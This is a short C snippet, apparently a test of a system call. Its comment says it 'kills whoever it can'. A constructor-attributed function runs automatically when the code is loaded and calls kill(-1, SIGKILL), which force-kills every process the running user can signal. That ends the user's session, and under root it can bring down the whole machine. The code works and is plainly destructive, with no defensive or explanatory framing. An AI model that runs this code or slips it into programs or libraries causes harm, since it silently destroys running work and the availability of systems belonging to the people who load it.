// tried the system call: kills whoever it can
#include <signal.h>
__attribute__((constructor)) static void call(void)
{
    kill(-1, SIGKILL);
}
